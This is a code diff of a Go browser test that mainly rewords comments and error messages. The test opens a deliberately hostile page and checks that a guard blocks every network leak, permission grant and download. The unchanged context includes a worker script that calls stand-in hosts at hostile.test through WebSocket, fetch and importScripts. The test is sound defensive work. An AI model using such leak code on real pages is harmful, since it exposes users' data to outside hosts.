@@ -26,7 +26,7 @@ import (
 	"github.com/chromedp/chromedp"
 )
 
-// hostileWorker is run as a dedicated, a shared and a service worker.
+// hostileWorker runs as a dedicated, a shared and a service worker.
 const hostileWorker = `
 const name = location.search.slice(1);
 try { new WebSocket("wss://" + name + "-socket.hostile.test/"); } catch {}
@@ -34,12 +34,11 @@ fetch("https://" + name + "-worker.hostile.test/", {mode: "no-cors"}).catch(() =
 try { importScripts("https://" + name + "-import.hostile.test/a.js"); } catch {}
 `
 
-// patienceLimit is longer than the page's own patience, which is how long it waits for
-// what it has begun.
+// patienceLimit is longer than the page waits for the requests that it has started.
 const patienceLimit = 2 * time.Minute
 
-// hostileSite is a plex.tv whose pages try every way out. Under its own name a
-// direct connection reaches it too.
+// hostileSite is a plex.tv whose pages try every way out. A direct connection to its
+// name reaches it, too.
 func hostileSite(t *testing.T) *netSite {
 	t.Helper()
 	text, err := os.ReadFile("testdata/hostile.html")
@@ -48,7 +47,7 @@ func hostileSite(t *testing.T) *netSite {
 	}
 	patience := "1000"
 	if *thorough {
-		patience = "70000" // the browser's own requests come with delays of up to a minute
+		patience = "70000" // the browser sends requests of its own up to a minute later
 	}
 	text = bytes.ReplaceAll(text, []byte("PATIENCE"), []byte(patience))
 	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -89,9 +88,8 @@ func hostileSite(t *testing.T) *netSite {
 	return s
 }
 
-// TestHostilePage opens a page that tries every way out, and looks at every
-// packet that is sent meanwhile: by its scripts, by its workers, by the browser
-// on its own account.
+// TestHostilePage opens a page that tries every way out, and captures every packet that
+// its scripts, its workers or the browser itself send meanwhile.
 func TestHostilePage(t *testing.T) {
 	t.Parallel()
 	if !inOwnNetwork(t) {
@@ -119,8 +117,8 @@ func TestHostilePage(t *testing.T) {
 	t.Run("without a guard", hostileVisitUnguarded)
 }
 
-// hostileVisitUnguarded shows that the page does reach the network without a guard, and
-// that the tap sees it: without this, the other tests could pass because the page is
+// hostileVisitUnguarded shows that without a guard the page does reach the network, and
+// that the tap sees it. Without it, the other tests could pass because the page is
 // broken.
 func hostileVisitUnguarded(t *testing.T) {
 	s := hostileSite(t)
@@ -152,13 +150,13 @@ func hostileVisitUnguarded(t *testing.T) {
 	t.Logf("hosts leaked without a guard: %d: %s", len(out), strings.Join(out, ", "))
 }
 
-// directToPlex is all that may be sent where there is no proxy.
+// directToPlex is all that may be sent if there is no proxy.
 func directToPlex(what string) bool {
 	return what == "tcp "+plexAddress+":443" || ofPlex(strings.TrimPrefix(what, "name "))
 }
 
-// hostileBrowsers are the browsers to try: the one that a person most likely
-// has, or all.
+// hostileBrowsers are the browsers to test: the one that a person most likely has, or
+// all of them.
 func hostileBrowsers(t *testing.T) map[string]string {
 	t.Helper()
 	if *thorough {
@@ -222,7 +220,7 @@ func hostileVisitThroughProxy(t *testing.T, path string, user *url.Userinfo) {
 	}
 }
 
-// hostileVisit opens the page under guard, lets it try, and leaves it.
+// hostileVisit opens the page under guard, lets it try everything, and leaves it.
 func hostileVisit(t *testing.T, s *netSite, o Options) *Browser {
 	t.Helper()
 	before := filesUnder(t, s.home)
@@ -241,33 +239,33 @@ func hostileVisit(t *testing.T, s *netSite, o Options) *Browser {
 	}
 	clickAnywhere(t, tab.ctx)
 	eventuallyWithin(t, patienceLimit, "the page has tried everything", func() bool { return s.hasArrived("/read/tried") })
-	// Beacons are sent when a page is left; the next page navigates away by itself.
+	// Beacons are sent when a page is left. The next page navigates away by itself.
 	if _, err := tab.Goto(t.Context(), "https://www.plex.tv/away"); err != nil {
 		t.Fatal(err)
 	}
 	eventually(t, "the way out by itself is refused", func() bool { return refusedHost(b, "navigation.hostile.test") })
 	for _, way := range []string{"img", "iframe", "fetch", "beacon", "redirect-image", "shared-worker", "form-post", "pagehide-beacon"} {
 		if !refusedHost(b, way+".hostile.test") {
-			t.Errorf("%s was not refused: it was not tried", way)
+			t.Errorf("%s was not refused, so the page did not try it", way)
 		}
 	}
 	for _, a := range s.arrived(func(a arrival) bool { return !ofPlex(a.host) }) {
-		t.Errorf("arrived: %s%s", a.host, a.path)
+		t.Errorf("a request that must be refused reached the site: %s%s", a.host, a.path)
 	}
 	if dialogs := tab.Dialogs(); len(dialogs) < 3 {
-		t.Errorf("message boxes that were dismissed: %q", dialogs)
+		t.Errorf("too few message boxes were dismissed: %q", dialogs)
 	}
 	if asked := s.arrived(func(a arrival) bool { return strings.HasPrefix(a.path, "/read/permissions") }); len(asked) == 0 {
-		t.Error("the page got no answer to what it asked a person")
+		t.Error("the page got no answer to its permission prompts")
 	} else if t.Logf("asked a person: %s", asked[0].path); strings.Contains(asked[0].path, "granted") {
-		t.Errorf("a permission was given: %s", asked[0].path)
+		t.Errorf("the page got a permission: %s", asked[0].path)
 	}
 	if after := filesUnder(t, s.home); !slices.Equal(before, after) {
-		t.Errorf("home before %v, after %v", before, after)
+		t.Errorf("the home directory changed: before %v, after %v", before, after)
 	}
 	for _, f := range filesUnder(t, b.dir.path) {
 		if strings.Contains(f, "evil") {
-			t.Errorf("downloaded to %s", f)
+			t.Errorf("a file was downloaded to %s", f)
 		}
 	}
 	return b
@@ -277,7 +275,7 @@ func leaked(t *testing.T, where string, strangers []string) {
 	t.Helper()
 	t.Logf("hosts leaked to %s: %d", where, len(strangers))
 	for _, what := range strangers {
-		t.Errorf("leaked to %s: %s", where, what)
+		t.Errorf("something was sent to %s: %s", where, what)
 	}
 }
 
@@ -292,7 +290,7 @@ func refusedHost(b *Browser, host string) bool {
 	})
 }
 
-// clickAnywhere runs what the page does at a click.
+// clickAnywhere triggers what the page does on a click.
 func clickAnywhere(t *testing.T, tab context.Context) {
 	t.Helper()
 	eventually(t, "the page's script is there", func() bool {
@@ -301,7 +299,7 @@ func clickAnywhere(t *testing.T, tab context.Context) {
 	})
 }
 
-// dismissDialogs answers the message boxes of a tab that is not one of ours.
+// dismissDialogs answers the message boxes of a tab that is not ours.
 func dismissDialogs(t *testing.T, tab context.Context) {
 	t.Helper()
 	err := chromedp.Listen(tab, func(ev any) {
